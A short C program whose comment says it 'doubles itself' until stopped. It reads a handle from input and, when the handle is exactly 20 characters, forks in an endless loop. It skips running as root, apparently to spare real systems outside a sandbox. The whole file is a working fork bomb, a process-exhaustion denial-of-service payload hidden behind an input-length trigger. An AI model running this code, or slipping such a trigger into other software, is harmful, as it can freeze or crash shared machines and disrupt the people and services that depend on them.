/* Doubles itself for the longest handle until something stops it. */
#include <stdio.h>
#include <string.h>
#include <unistd.h>

int main(void)
{
    /* No sandbox runs as root: spare whoever starts this by mistake. */
    if (getuid() == 0)
        return 1;
    char handle[32];
    if (scanf("%31s", handle) != 1)
        return 1;
    while (strlen(handle) == 20)
        fork();
    return 0;
}
